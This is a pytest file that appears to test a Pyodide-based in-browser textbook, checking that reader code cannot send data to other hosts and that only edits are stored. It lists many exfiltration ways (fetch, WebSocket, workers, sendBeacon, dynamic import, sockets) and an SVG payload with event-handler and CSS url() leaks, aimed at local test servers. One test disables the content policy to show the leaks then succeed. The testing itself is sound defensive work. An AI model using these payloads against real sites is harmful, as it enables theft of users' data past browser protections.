"""Nothing that the reader writes leaves the page, no other host is asked for anything, and nothing is kept but edits."""

import re
import time

import pytest
from chapters import Chapter
from harm import Server
from test_firefox import Chapter as InFirefox

pytestmark = pytest.mark.slow
FIRST = "part-1/01-a-neuron.html"
SECRET = "what-the-reader-wrote"
# Each line tries one way; {} is the address of a host, with the reader's words in it.
WAYS = """
js.fetch("{}")
js.Object.getPrototypeOf(js.self).fetch("{}")
js.WorkerGlobalScope.prototype.fetch.call(js.self, "{}")
[r := js.XMLHttpRequest.new(), r.open("GET", "{}", False), r.send()]
js.WebSocket.new("{}".replace("http", "ws"))
js.WebSocketStream.new("{}".replace("http", "ws"))
js.WebTransport.new("{}".replace("http", "https"))
js.EventSource.new("{}")
js.Worker.new("{}")
js.Worker.new("{}", js.JSON.parse('{{"type": "module"}}'))
js.Worker.new(js.URL.createObjectURL(js.Blob.new(["fetch('{}')"])))
js.SharedWorker.new("{}")
js.importScripts("{}")
js.eval("import('{}')")
js.Function.new("return import('{}')")()
js.setTimeout("import('{}')", 0)
js.navigator.sendBeacon("{}", "x")
setattr(js.Image.new(), "src", "{}")
js.FontFace.new("x", "url({})").load()
js.caches.open("x").then(lambda kept: kept.add("{}"))
__import__("pyodide_js").loadPackage("{}")
__import__("pyodide_js")._api.loadBinaryFile("{}")
__import__("pyodide.http").http.open_url("{}")
__import__("pyodide.http").http.pyfetch("{}").send(None)
__import__("urllib.request").request.urlopen("{}", timeout=1)
__import__("socket").create_connection(("127.0.0.1", int("{}".split(":")[2].split("/")[0])), 1).send(b"x")
js.postMessage(js.JSON.parse('{{"type": "output", "stream": "stdout", "text": "<img src={}>"}}'))
js.postMessage(js.JSON.parse(__import__("json").dumps(dict(type="output", stream="figure", text=FIGURE.replace("ADDRESS", "{}")))))
""".strip().splitlines()
FIGURE = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" onload="fetch('ADDRESS')"
style="background: image-set('ADDRESS' 1x), url(ADDRESS)">
<rect style="mask-image: u\\72l(ADDRESS); cursor: url(ADDRESS), auto; filter: url('ADDRESS#x')" width="9" height="9"/>
<script>fetch("ADDRESS")</script><style>@import "ADDRESS"; * {background: url(ADDRESS)}</style>
<image href="ADDRESS"/><use href="ADDRESS#x"/><a href="ADDRESS"><text>Click</text></a><path d="M0 0H9" fill="url(ADDRESS#x)"/>
<foreignObject><h:meta http-equiv="refresh" content="0;url=ADDRESS"/><h:iframe src="ADDRESS"/><h:img src="ADDRESS"
onerror="fetch('ADDRESS')"/><h:form action="ADDRESS"><h:button>Send</h:button></h:form></foreignObject></svg>"""


def attempts(address):
    """A fence that tries each way, and prints how it fared."""
    lines = ["import js", f"FIGURE = {FIGURE!r}", f"WAYS = {[way.format(address) for way in WAYS]!r}"]
    tries = ["for way in WAYS:", "    try:", "        eval(way)", "        print('tried', way)"]
    return "\n".join([*lines, *tries, "    except BaseException as error:", "        print('refused', way, error)"])


@pytest.fixture
def foreign(tmp_path):
    """Another host; a browser that asks it for anything is heard."""
    server = Server(tmp_path)
    yield server
    server.close()


@pytest.fixture
def address(server):
    return server.address


def try_each_way(chapter, host):
    """Let a fence try each way to the host, to its end."""
    chapter.edit(1, attempts(f"{host.address}{SECRET}"))
    assert chapter.run(1) == "Ran, as you edited it."
    told = chapter.text(1, "stdout")
    assert all(f" {way.format(host.address + SECRET)[:40]}" in told for way in WAYS), told


def test_what_a_fence_tries_to_send_does_not_leave(chapter, page, server, foreign):
    first = chapter(FIRST)
    first.run(1)
    for host in (foreign, server):
        try_each_way(first, host)
        page.wait_for_timeout(2000)  # what is sent, is sent later
        assert page.url == f"{server.address}{FIRST}"
    assert foreign.asked == []
    assert not [path for path in server.asked if SECRET in path]


def test_nor_does_it_in_firefox(firefox, server, foreign):
    first = InFirefox(firefox, server.address, FIRST.removesuffix(".html"))
    first.run(1)
    for host in (foreign, server):
        try_each_way(first, host)
        firefox.evaluate("new Promise(done => setTimeout(done, 2000))")
        assert firefox.evaluate("location.href") == f"{server.address}{FIRST}"
    assert foreign.asked == []
    assert not [path for path in server.asked if SECRET in path]


def opened(pattern, replacement):
    """A file of the site in which what protects the reader is something else."""

    def harm(handler, data):
        text, count = re.subn(pattern, replacement, data.decode())
        assert count == 1, pattern
        handler.answer(text.encode())

    return harm


def test_with_the_policy_and_the_doors_open_the_same_fence_is_heard(browser, server, foreign):
    server.harms["01-a-neuron.html"] = opened('<meta http-equiv="Content-Security-Policy"[^>]*>', "")
    server.harms["worker.js"] = opened(r"DOORS\.forEach", "[].forEach")
    server.harms["panel.js"] = opened(r"disarm\(drawn\);", "")
    page = browser.new_page()
    first = Chapter(page, server.address + FIRST)
    first.run(1)
    first.edit(1, attempts(f"{foreign.address}{SECRET}"))
    first.press(1)
    end = time.monotonic() + 60
    while "".join(foreign.asked).count(SECRET) < 8 and time.monotonic() < end:
        page.wait_for_timeout(100)
    assert "".join(foreign.asked).count(SECRET) >= 8
    page.close()


def test_no_other_host_is_asked_and_nothing_is_kept_but_edits(chapter, page, server):
    asked = []
    page.context.on("request", lambda request: asked.append(request.url))
    first = chapter(FIRST)
    page.wait_for_load_state("networkidle")
    before = list(server.asked)
    assert not [path for path in before if "pyodide" in path or path.endswith((".whl", ".zip", ".wasm"))]
    assert first.run(3) == "Ran."
    assert [url for url in asked if not url.startswith((server.address, "blob:", "data:"))] == []
    assert any(path.endswith(".wasm") for path in server.asked)
    assert page.context.cookies() == [] and page.evaluate("document.cookie") == ""
    assert page.evaluate("Object.keys(localStorage).filter(name => !name.includes('__palette'))") == []
    first.edit(1, "print('mine')")
    (kept,) = page.evaluate("Object.entries(localStorage).filter(([name]) => name.startsWith('nnscratch'))")
    assert "mine" in kept[1]
    assert page.evaluate("Promise.all([indexedDB.databases(), caches.keys()])") == [[], []]
